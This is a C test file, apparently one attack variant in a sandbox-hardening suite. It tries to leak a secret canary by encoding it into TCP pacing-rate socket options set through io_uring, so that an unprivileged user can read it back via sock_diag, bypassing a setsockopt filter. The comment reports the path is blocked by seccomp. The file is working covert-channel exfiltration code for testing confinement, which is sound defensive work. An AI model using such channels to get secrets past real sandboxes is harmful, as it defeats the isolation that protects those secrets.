// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* uring_setsockopt_diag - tcp_pacing_rate_diag through io_uring: the agent sets
 * SO_MAX_PACING_RATE (8 chosen bytes per TCP listener, shown by sock_diag tcp_info to every
 * user) with IORING_OP_URING_CMD / SOCKET_URING_OP_SETSOCKOPT (Linux >= 6.7), not setsockopt(2):
 * does the taint-gated setsockopt filter see the io_uring path? The ring is set up before the
 * recv, the listeners too (a tainted server's bind is refused).
 * Verifier: uid 65534 dumps the TCP listeners over NETLINK_SOCK_DIAG (INET_DIAG_INFO) while the
 * agent waits (sync "set") and reassembles the chunks.
 * Result (host, user and root): BLOCKED: seccomp refuses io_uring_setup (EPERM), so
 * the ring is never made. (Had it been made: io_uring_cmd_setsockopt calls do_sock_setsockopt,
 * which runs the cgroup/setsockopt program for a non-compat ring; compat is killed by BADARCH.)
 * Control (MNC_ATTACKS_CONTROL=1): LEAKED, verified (uid 65534 read the canary from tcp_info).
 * Bandwidth if open: 56 bits per listener per call, as tcp_pacing_rate_diag. */
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>

#include <stdint.h>
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "atk.h"
#include "atk_variants.h"

static int ring = -1;
static struct io_uring_params up;
static unsigned char *sq, *cq;
static struct io_uring_sqe *sqes;

static int setup(void)
{
    ring = (int)syscall(SYS_io_uring_setup, 4, &up);
    if (ring < 0)
        return -1;
    size_t sqsz = up.sq_off.array + up.sq_entries * sizeof(unsigned);
    size_t cqsz = up.cq_off.cqes + up.cq_entries * sizeof(struct io_uring_cqe);
    sq = mmap(NULL, sqsz > cqsz ? sqsz : cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
              IORING_OFF_SQ_RING);
    cq = sq;
    sqes = mmap(NULL, up.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                IORING_OFF_SQES);
    return sq == MAP_FAILED || sqes == MAP_FAILED ? -1 : 0;
}

/* setsockopt through IORING_OP_URING_CMD (SOCKET_URING_OP_SETSOCKOPT), waited for; cqe->res */
static int uring_setsockopt(int fd, int level, int optname, const void *val, unsigned len)
{
    unsigned *tail = (unsigned *)(sq + up.sq_off.tail), *mask = (unsigned *)(sq + up.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + up.sq_off.array);
    unsigned t = *tail, i = t & *mask;
    memset(&sqes[i], 0, sizeof(sqes[i]));
    sqes[i].opcode = IORING_OP_URING_CMD;
    sqes[i].fd = fd;
    sqes[i].cmd_op = SOCKET_URING_OP_SETSOCKOPT;
    sqes[i].level = (unsigned)level;
    sqes[i].optname = (unsigned)optname;
    sqes[i].optval = (unsigned long long)(uintptr_t)val;
    sqes[i].optlen = len;
    array[i] = i;
    __atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned *head = (unsigned *)(cq + up.cq_off.head), *cmask = (unsigned *)(cq + up.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + up.cq_off.cqes);
    unsigned h = __atomic_load_n(head, __ATOMIC_ACQUIRE);
    int res = cqes[h & *cmask].res;
    __atomic_store_n(head, h + 1, __ATOMIC_RELEASE);
    return res;
}

#define PACE_CHUNK 7

static int agent(struct atk_ctx *c)
{
    /* the listeners are made before the recv (a tainted server's bind is refused): two, enough
     * for the 14-byte canary */
    int ls[2] = {-1, -1};
    for (int i = 0; i < 2; i++) {
        int s = (int)atk_try(c, "socket tcp", socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        if (s < 0 || atk_try(c, "bind 127.0.0.1:0 (before the recv)", bind(s, (struct sockaddr *)&a, sizeof(a))) < 0 ||
            atk_try(c, "listen (before the recv)", listen(s, 1)) < 0)
            continue;
        ls[i] = s;
    }
    atk_try(c, "io_uring_setup (before the recv)", setup());
    atk_recv(c);
    size_t n = strlen(c->secret);
    for (size_t off = 0, i = 0; off < n && i < 2; off += PACE_CHUNK, i++) {
        unsigned char b[8] = {(unsigned char)(0xa0 + i)};
        memcpy(b + 1, c->secret + off, n - off < PACE_CHUNK ? n - off : PACE_CHUNK);
        uint64_t v;
        memcpy(&v, b, sizeof(v));
        if (ls[i] >= 0 && ring >= 0) {
            int r = uring_setsockopt(ls[i], SOL_SOCKET, SO_MAX_PACING_RATE, &v, sizeof(v));
            if (r < 0)
                errno = -r;
            atk_try(c, "io_uring URING_CMD SETSOCKOPT SO_MAX_PACING_RATE", r < 0 ? -1 : r);
        }
    }
    atk_sync(c, "set"); /* the sockets stay open until the agent exits */
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag) { atkv_pacing_verify(c, tag, PACE_CHUNK); }

static const struct atk A = {
    "uring_setsockopt_diag",
    "SO_MAX_PACING_RATE set through io_uring SOCKET_URING_OP_SETSOCKOPT, read through sock_diag",
    ATK_SERVER | ATK_NO_RECV,
    NULL,
    agent,
    on_sync,
    NULL,
    NULL};
ATK_MAIN(A)
